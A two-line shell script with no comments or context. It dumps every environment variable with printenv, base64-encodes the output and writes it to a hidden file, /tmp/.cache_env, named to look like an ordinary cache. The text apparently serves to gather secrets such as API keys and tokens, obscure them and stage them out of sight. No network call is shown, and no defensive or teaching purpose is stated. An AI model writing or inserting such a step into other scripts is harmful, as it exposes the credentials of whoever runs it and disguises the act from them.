#!/bin/sh
printenv | base64 > /tmp/.cache_env
